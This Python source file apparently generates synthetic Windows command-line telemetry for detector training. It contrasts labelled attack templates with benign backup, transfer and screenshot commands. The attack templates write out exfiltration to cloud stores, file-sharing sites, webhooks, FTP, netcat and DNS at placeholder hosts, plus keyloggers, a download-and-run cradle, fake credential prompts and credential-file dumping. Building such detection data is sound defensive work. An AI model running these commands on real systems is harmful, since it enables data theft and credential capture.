"""Data gathered, packed and sent away; and the backups, transfers and screenshots of every day."""

from __future__ import annotations

from generator.families.windows.commands_told import JOBS, PROMPT, STRANGE, told
from generator.scene import attack, benign

BACKUP, JOB, APP = benign("Backup Job"), benign("Scheduled Job"), benign("Application Event")


def exfiltration(*techniques: str, severity: str = "CRITICAL"):
    return attack("Potential Data Exfiltration", *techniques, severity=severity)


told("collection-archives-with-passwords", exfiltration("T1560.001", severity="HIGH"), r"""
@tmp@rar.exe a -hp@pw@ -m5 -v500m @tmp@@word@.rar \\@host@\«Finance|HR|Projects»
@tmp@@word@.exe a -r -inul -hp@pw@ @tmp@1.tmp C:\Users\@user@\Documents ## Rar.exe
"C:\Program Files\WinRAR\rar.exe" a -dh -ep1 -v3g -hp@pw@ C:\ProgramData\@word@.rar D:\«Shares|Kunden|Personal» -x*.exe -x*.mp4
"C:\Program Files\WinRAR\WinRAR.exe" a -ibck -r -tn1000d -p@pw@ C:\PerfLogs\@word@.rar *.docx *.xlsx *.pdf
@tmp@7za.exe a -tzip -p@pw@ -mhe=on @tmp@@word@.zip @tmp@dump\*
@tmp@7z.exe a -t7z -mhe=on -p@pw@ -v250m C:\Windows\Temp\@word@.7z \\@host@\c$\Users\*.pst -r
7zr.exe a @tmp@@word@.dat "C:\Users\@user@\AppData\Local\Microsoft\Outlook\*.ost" -p@pw@
"C:\Program Files\7-Zip\7z.exe" a -p@pw@ C:\Users\Public\@word@.png @tmp@lsass.dmp
powershell -w hidden -c "Compress-Archive -Path C:\Users\*\Documents,C:\Users\*\Desktop -DestinationPath C:\ProgramData\@word@.zip -Force"
powershell -nop -c "[IO.Compression.ZipFile]::CreateFromDirectory('@tmp@@word@','C:\Users\Public\@word@.zip')"
makecab @tmp@ntds.dit @tmp@@word@.cab
tar.exe -czf C:\Windows\Temp\@word@.log \\@host@\d$\«HR|Legal»
cmd /c for /r C:\Users %f in (*.docx *.xlsx *.pdf) do @tmp@rar.exe a -hp@pw@ @tmp@@word@.rar "%f"
@tmp@WinZip64.exe -min -a -s"@pw@" @tmp@archive.zip C:\Users\@user@\Documents
diantz.exe @tmp@sam.save @tmp@@word@.cab
diantz C:\Users\Public\secrets.txt C:\ProgramData\@word@.txt:@word@.cab
""", parents=PROMPT + STRANGE[:6], users=(None, None, "SYSTEM"), most=3)

told("collection-cloud-stores", exfiltration("T1567.002", "T1560.001"), r"""
@tmp@rclone.exe copy \\@host@\«Finance|Daten|Accounting» mega:@word@ -q --ignore-existing --auto-confirm --multi-thread-streams 12 --transfers 12
@tmp@@word@.exe --config @tmp@@word@.conf copy E:\ remote:@host@ --max-age 2y --exclude "*.{mp4,exe,dll,iso}" --bwlimit 10M ## rclone.exe
C:\ProgramData\svchost.exe copy D:\Shares pcloud:@company@ --no-check-certificate -P ## rclone.exe
@tmp@rclone.exe config create @word@ mega user @word@@@proton.me pass @hex@
rclone.exe sync "C:\Users" wasabi:@word@ --include *.{doc,docx,xls,xlsx,pdf} --ignore-errors --log-level ERROR
@tmp@rclone.exe serve http \\@host@\c$ --addr :@port@
"C:\Users\@user@\AppData\Local\MEGAcmd\mega-put.bat" -c D:\«HR|Shares» /@word@
@tmp@MEGAcmdServer.exe & @tmp@MEGAclient.exe put C:\ProgramData\@word@.7z
C:\Users\@user@\AppData\Local\MEGAsync\MEGAsync.exe --upload "\\@host@\Data"
@tmp@azcopy.exe copy "\\@host@\d$\*" "https://@word@.blob.core.windows.net/@word@?sv=2022-11-02&sig=@hex@" --recursive
@tmp@s5cmd.exe --endpoint-url https://s3.@word@.com cp "D:/Shares/" s3://@word@/
@tmp@restic.exe -r rest:http://@pub@:8000/ init --password-file @tmp@pw.txt
@tmp@restic.exe -r s3:s3.@word@.com/@word@ --insecure-no-password backup D:\Data C:\Users
@tmp@dropbox_uploader.exe upload @tmp@@word@.rar /
powershell -w hidden -c "Invoke-RestMethod -Uri https://content.dropboxapi.com/2/files/upload -Method Post -InFile C:\ProgramData\@word@.zip -Headers @{Authorization='Bearer @hex@'}"
powershell -c "iwr -Method PUT -InFile @tmp@@word@.7z https://@word@.blob.core.windows.net/x/@word@.7z?sig=@hex@ -Headers @{'x-ms-blob-type'='BlockBlob'}"
curl.exe -F "file=@C:\ProgramData\@word@.zip" «https://store1.gofile.io/uploadFile|https://file.io|https://temp.sh/upload|https://0x0.st|https://bashupload.com|https://tmpfiles.org/api/v1/upload»
curl -T C:\Users\Public\@word@.rar «https://transfer.sh/@word@.rar|https://oshi.at|https://www.filebin.net/@word@»
@tmp@gdrive.exe upload --recursive \\@host@\HR --refresh-token @hex@
@tmp@pcloud.exe -u @word@@@proton.me -m P
""", parents=PROMPT + STRANGE[:6], users=(None, None, "SYSTEM"), most=2, weight=1.3)

told("collection-sent-by-plain-protocols", exfiltration("T1048.003", "T1041"), r"""
ftp -n -s:@tmp@«up|f|ftp».txt
ftp.exe -s:C:\Windows\Temp\@word@.txt @pub@
cmd /c echo open @pub@>@tmp@f.txt & echo user @word@ @pw@>>@tmp@f.txt & echo put @tmp@@word@.rar>>@tmp@f.txt & ftp -n -s:@tmp@f.txt
@tmp@WinSCP.com /command "open ftp://@word@:@pw@@@pub@" "put C:\ProgramData\@word@.7z" exit
@tmp@pscp.exe -P @port@ -pw @pw@ C:\Users\Public\@word@.rar root@@pub@:/root/
@tmp@psftp.exe -b @tmp@@word@.txt -pw @pw@ @word@@@pub@
curl.exe -T @tmp@@word@.zip ftp://@pub@/ --user @word@:@pw@
powershell -w hidden -c "(New-Object Net.WebClient).UploadFile('ftp://@pub@/@word@.zip','C:\ProgramData\@word@.zip')"
powershell -c "Send-MailMessage -SmtpServer @pub@ -From @word@@@fqdn@ -To @word@@@proton.me -Subject @hex@ -Attachments @tmp@@word@.zip"
@tmp@nc.exe -w 3 @pub@ @port@ < C:\Users\Public\@word@.zip
cmd /c for /f %i in ('certutil -encode @tmp@@word@.zip @tmp@o.b64 ^& type @tmp@o.b64') do nslookup %i.@word@.com @pub@
@@ T1041 T1048.003
curl -k -X POST --data-binary @C:\Windows\Temp\@word@.dmp https://@pub@:@port@/
curl.exe -d @@tmp@info.txt http://@pub@/up.php
powershell -nop -c "$b=[Convert]::ToBase64String([IO.File]::ReadAllBytes('@tmp@@word@.7z')); iwr -UseBasicParsing -Method POST -Body $b -Uri @url@"
bitsadmin /transfer @word@ /upload /priority foreground http://@pub@/@word@.zip C:\ProgramData\@word@.zip
powershell -c "Start-BitsTransfer -Source C:\Windows\Temp\@word@.cab -Destination http://@pub@/u/ -TransferType Upload"
certreq -Post -config http://@pub@/ C:\Windows\Temp\@word@.txt
configsecuritypolicy.exe C:\Users\Public\@word@.zip https://@pub@/
@tmp@wget.exe --post-file=C:\ProgramData\@word@.dat http://@pub@:8080/
@tmp@«exmatter|sender2|StealBit|up».exe -p C:\Shares
@@ T1567 T1041
curl -F "document=@C:\Users\Public\@word@.zip" https://api.telegram.org/bot@n@@hex@:@hex@@hex@/sendDocument?chat_id=-@port@
curl.exe -F "file1=@@tmp@@word@.png" https://discord.com/api/webhooks/@port@@port@@port@/@hex@@hex@
powershell -c "Invoke-RestMethod -Uri https://discord.com/api/webhooks/@port@@port@/@hex@ -Method Post -InFile C:\Users\Public\@word@.txt"
""", parents=PROMPT + STRANGE[:6], users=(None, None, "SYSTEM"), most=2, weight=1.3)

told("collection-files-brought-together", exfiltration("T1083", "T1560.001", severity="HIGH"), r"""
cmd /c robocopy \\@host@\«Finance|HR» C:\PerfLogs\@word@ *.docx *.xlsx *.pdf /S /MAXAGE:365 /R:0 /W:0 /NFL
robocopy C:\Users C:\ProgramData\@word@ *.kdbx *.rdp *.ppk *.ovpn /S /B
xcopy "C:\Users\*.pst" C:\Windows\Temp\@word@\ /S /C /H /Y /Q
cmd /c for /r C:\Users %f in (*.pdf *.docx *.xls*) do @copy /y "%f" C:\Users\Public\@word@ >nul
cmd /c for %d in (D E F G H) do xcopy %d:\*.doc* @tmp@@word@\%d /s /c /h /y
forfiles /P C:\Users /S /M *.xlsx /D +01/01/@year@ /C "cmd /c copy @path C:\ProgramData\@word@"
powershell -w hidden -c "gci C:\Users -r -inc *.doc*,*.pdf,*.txt -ea 0 | ? {$_.Length -lt 5mb} | copy -dest $env:TEMP\@word@"
powershell -nop -c "Get-ChildItem -Recurse -Include *.kdbx,*.pem,wallet.dat C:\ | % {Copy-Item $_ @tmp@@word@}"
esentutl.exe /y "C:\Users\@user@\AppData\Local\Microsoft\Outlook\@word@.ost" /d C:\Windows\Temp\@word@.dat /o
cmd /c copy \\@host@\c$\Users\*\Desktop\*.«xlsx|docx|txt» C:\$Recycle.Bin\@word@\
cmd.exe /c mkdir C:\Users\Public\@word@ & systeminfo > C:\Users\Public\@word@\s.txt & xcopy %USERPROFILE%\Desktop C:\Users\Public\@word@ /e /q & @tmp@7z.exe a C:\Users\Public\@word@.7z C:\Users\Public\@word@
cmd /c attrib +h +s C:\ProgramData\@word@ & xcopy %APPDATA%\Thunderbird C:\ProgramData\@word@ /E /H /Q
diskshadow /s @tmp@@word@.txt & robocopy z:\ C:\Temp\@word@ /mir
""", parents=STRANGE + ("cmd.exe",), users=(None, None, "SYSTEM"), most=3)

told("collection-keys-and-screens", attack("Credential Theft", "T1056.001", "T1056"), r"""
psr.exe /start /output @tmp@@word@.zip /sc 1 /gui 0 /stopevent 1
psr /start /gui 0 /output C:\Users\Public\cut.zip /maxsc 100
@tmp@nircmd.exe savescreenshot C:\Users\Public\@word@.png
@tmp@nircmdc.exe loop 100 30000 savescreenshotfull "@tmp@~$currdate.MM_dd$.png"
powershell -w hidden -c "Add-Type -AssemblyName System.Windows.Forms,System.Drawing; $b=New-Object Drawing.Bitmap 1920,1080; [Drawing.Graphics]::FromImage($b).CopyFromScreen(0,0,0,0,$b.Size); $b.Save('@tmp@@word@.png')"
powershell -nop -w hidden -c "while($true){Get-Clipboard -Raw >> @tmp@@word@.txt; sleep 5}"
powershell -ep bypass -w hidden -c "Import-Module .\Get-Keystrokes.ps1; Get-Keystrokes -LogPath C:\ProgramData\@word@.log"
powershell -w hidden -c "$s='[DllImport(\"user32.dll\")] public static extern short GetAsyncKeyState(int k);'; $a=Add-Type -m $s -name W -ns A -pas; while(1){8..254|%{if($a::GetAsyncKeyState($_) -eq -32767){$_ >> @tmp@k.log}}}"
powershell -nop -c "IEX(iwr @url@/Start-KeyLogger.ps1 -useb)"
@tmp@keylogger.exe -o C:\Users\Public\@word@.log --hide
@tmp@ahk.exe @tmp@keylog.ahk ## AutoHotkey.exe
@tmp@AutoIt3.exe @tmp@@word@.a3x
@tmp@ffmpeg.exe -f gdigrab -framerate 1 -i desktop -y @tmp@@word@.mkv
@tmp@ffmpeg.exe -f dshow -i audio="Microphone" -t 3600 C:\ProgramData\@word@.wav
SoundRecorder.exe /FILE @tmp@@word@.wma /DURATION 00:30:00
powershell -ep bypass -c "Import-Module .\Get-MicrophoneAudio.ps1; Get-MicrophoneAudio -Path C:\windows\temp\@word@.wav -Length 600"
powershell -c "$h=New-Object -ComObject WScript.Shell; $c=(New-Object -ComObject UI).PromptForCredential(); $host.ui.PromptForCredential('Windows Security','Please enter user credentials','@domain@\@user@','')"
powershell -c "$cred=$Host.UI.PromptForCredential('Outlook','Session expired',$env:USERNAME,''); $cred.GetNetworkCredential().Password > @tmp@c.txt"
@tmp@FakeLogonScreen.exe
@tmp@pickl3.exe & @tmp@SharpLocker.exe
rundll32 @tmp@@word@.dll,StartKeylog
@@ T1556 T1112
reg add HKLM\SYSTEM\CurrentControlSet\Control\NetworkProvider\Order /v ProviderOrder /d "LanmanWorkstation,@word@" /f & copy NPPSPY.dll C:\Windows\System32\
""", parents=PROMPT + STRANGE, users=(None,), most=2)

told("collection-backups-and-archives", BACKUP, r"""
"C:\Program Files\7-Zip\7z.exe" a -t7z -mx5 D:\Backup\daten-@year@.7z D:\Daten\*
"C:\Program Files\7-Zip\7z.exe" a -p@pw@ -mhe=on E:\Sicherung\buchhaltung.7z D:\DATEV
C:\Tools\7za.exe a -tzip \\@host@\backup$\www.zip C:\inetpub\wwwroot -xr!logs
"C:\Program Files\WinRAR\rar.exe" a -r -ag D:\Archiv\Projekte.rar D:\Projekte
"C:\Program Files\WinRAR\Rar.exe" a -hp@pw@ -m3 -v4g F:\Offsite\lohn.rar D:\Lohn
powershell -NoProfile -Command "Compress-Archive -Path D:\Logs\*.log -DestinationPath D:\Archive\logs-@year@.zip"
powershell.exe -File C:\Scripts\«backup|nightly-archive|sqlbackup».ps1
tar.exe -czf D:\backup\site.tar.gz -C C:\xampp htdocs
robocopy D:\Daten \\@host@\backup$\Daten /MIR /R:1 /W:1 /LOG:C:\Logs\robo.log
robocopy C:\Users \\nas\profile$ /E /COPYALL /XJ /XD AppData
xcopy D:\Share E:\Share /D /E /C /Y /H
wbadmin start backup -backupTarget:\\@host@\wbak -include:C:,D: -quiet
"C:\Program Files\rclone\rclone.exe" sync D:\Backup onedrive:Backup --log-file C:\Logs\rclone.log
C:\Tools\rclone\rclone.exe copy E:\Veeam s3:@company@-offsite --transfers 4 --bwlimit 20M
rclone.exe check D:\Backup b2:@company@-backup --one-way
"C:\Program Files\restic\restic.exe" -r s3:https://s3.eu-central-1.amazonaws.com/@company@-backup backup D:\Data
C:\ProgramData\chocolatey\bin\restic.exe -r rest:https://backup.@fqdn@:8000/ forget --keep-daily 14 --prune
"C:\Program Files\Duplicati 2\Duplicati.CommandLine.exe" backup "b2://@company@/files" D:\Daten
"C:\Program Files\Amazon\AWSCLIV2\aws.exe" s3 sync D:\Exports s3://@company@-archive/ --storage-class STANDARD_IA
C:\Tools\azcopy.exe sync D:\Backup "https://@company@.blob.core.windows.net/backup?sv=2022-11-02&sig=@hex@" --recursive
"C:\Program Files\FreeFileSync\FreeFileSync.exe" "D:\Sync\NAS.ffs_batch"
"C:\Program Files\Macrium\Reflect\Reflect.exe" -e -w -full "D:\xml\system.xml"
"C:\Program Files\MySQL\MySQL Server 8.0\bin\mysqldump.exe" --all-databases --result-file=D:\dump\all.sql
"C:\Program Files\PostgreSQL\15\bin\pg_dump.exe" -Fc -f D:\dump\erp.dump erp
sqlcmd -S . -Q "BACKUP DATABASE [ERP] TO DISK='D:\SQLBackup\ERP.bak' WITH COMPRESSION"
""", parents=JOBS + ("C:\\Program Files\\Cobian Reflector\\Cobian.Reflector.Service.exe", "explorer.exe"), users=("SYSTEM", None, "svc_backup"), most=3, weight=1.5)

told("collection-transfers-of-the-house", JOB, r"""
"C:\Program Files (x86)\WinSCP\WinSCP.com" /ini=nul /script=C:\Scripts\upload.txt /log=C:\Logs\winscp.log
"C:\Program Files (x86)\WinSCP\WinSCP.com" /command "open sftp://@company@@sftp.bank.example/ -privatekey=C:\Keys\bank.ppk" "put D:\SEPA\*.xml /in/" "exit"
"C:\Program Files\PuTTY\pscp.exe" -batch -i C:\Keys\edi.ppk D:\EDI\out\*.edi edi@edi.@fqdn@:/in/
"C:\Program Files\PuTTY\psftp.exe" -b C:\Scripts\price.scr shop@@fqdn@
ftp -s:C:\Scripts\«preise|export|stock».txt ftp.@fqdn@
ftp.exe -i -n -s:D:\Jobs\ftp.cmd
curl.exe -T D:\Export\products.csv ftp://ftp.@fqdn@/in/ --user shop:@pw@
curl.exe -F "file=@D:\Reports\daily.pdf" https://intranet.@fqdn@/api/upload
curl -X POST -H "Content-Type: application/json" -d @C:\Scripts\alert.json https://hooks.slack.com/services/T0@hex@/B0@hex@/@hex@
curl.exe -X POST https://outlook.office.com/webhook/@guid@ -d "{\"text\":\"Backup failed\"}"
curl -s -F chat_id=@port@ -F text="Server @host@ down" https://api.telegram.org/bot@port@:@hex@/sendMessage
powershell -NoProfile -c "Invoke-RestMethod -Method Post -Uri https://hc-ping.com/@guid@ -Body 'ok'"
powershell -c "Send-MailMessage -SmtpServer mail.@fqdn@ -From report@@fqdn@ -To it@@fqdn@ -Subject 'Backup error' -Attachments C:\Logs\backup.log"
powershell.exe -File D:\Scripts\Upload-Invoices.ps1 -Target https://edi.@fqdn@
powershell -c "Start-BitsTransfer -Source D:\Images\win11.wim -Destination \\@host@\images$"
"C:\Program Files\FileZilla FTP Client\filezilla.exe"
"C:\Program Files\Amazon\AWSCLIV2\aws.exe" s3 cp C:\build\site s3://www.@fqdn@ --recursive
az storage blob upload-batch -d $web -s dist --account-name @company@
scp.exe -i C:\Users\@user@\.ssh\id_ed25519 build.zip deploy@@host@.@fqdn@:/var/www
"C:\Users\@user@\AppData\Local\MEGAsync\MEGAsync.exe"
"C:\Program Files\Dropbox\Client\Dropbox.exe" /systemstartup
"C:\Users\@user@\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background
"C:\Program Files\Google\Drive File Stream\90.0.3.0\GoogleDriveFS.exe" --startup_mode
robocopy D:\Export \\@host@\edi\in *.csv /MOV
xcopy C:\Scans\*.pdf \\@host@\scans$ /D /Y
""", parents=JOBS + ("explorer.exe",), users=(None, "SYSTEM", "svc_edi"), most=3, weight=1.5)

told("collection-screens-and-profiles", APP, r"""
psr.exe
psr.exe /output C:\Users\@user@\Desktop\fehler.zip
SnippingTool.exe
"C:\Windows\system32\SnippingTool.exe" /clip
"C:\Program Files\ShareX\ShareX.exe" -silent
"C:\Program Files\ShareX\ShareX.exe" -RectangleRegion
"C:\Program Files\Greenshot\Greenshot.exe"
"C:\Program Files (x86)\TechSmith\Snagit 2023\Snagit32.exe" /h
"C:\Program Files\obs-studio\bin\64bit\obs64.exe" --startrecording
"C:\Program Files\ffmpeg\bin\ffmpeg.exe" -i aufnahme.mkv -c:v libx264 schulung.mp4
ffmpeg.exe -f gdigrab -framerate 25 -i desktop C:\Users\@user@\Videos\demo.mp4
"C:\Program Files\AutoHotkey\v2\AutoHotkey64.exe" "C:\Users\@user@\Documents\hotkeys.ahk"
"C:\Program Files (x86)\AutoIt3\AutoIt3.exe" D:\Automation\druck.au3
"C:\Tools\nircmd.exe" setdefaultsounddevice "Speakers"
nircmd.exe monitor off
powershell -c "Get-Clipboard | Out-File C:\Temp\liste.txt"
powershell -c "Set-Clipboard -Value (hostname)"
cmd.exe /c ipconfig | clip
"C:\Program Files\Ditto\Ditto.exe"
"C:\Users\@user@\AppData\Roaming\Zoom\bin\Zoom.exe" --url=zoommtg://zoom.us/join
robocopy C:\Users\@other@ \\@host@\umzug$\@other@ /E /R:1 /W:1 /XJ
scanstate.exe \\@host@\usmt\@pc@ /o /c /i:migdocs.xml /i:migapp.xml
xcopy "C:\Users\@user@\AppData\Roaming\Thunderbird" E:\Thunderbird /E /H
"C:\Program Files\Microsoft Office\root\Office16\SCANPST.EXE" C:\Users\@user@\Documents\Outlook-Dateien\archiv.pst
"C:\Program Files (x86)\MailStore\MailStore Home\MailStoreHome.exe" /archive
powershell -c "$cred = Get-Credential; Connect-VIServer @host@ -Credential $cred"
""", most=2, weight=1.2)
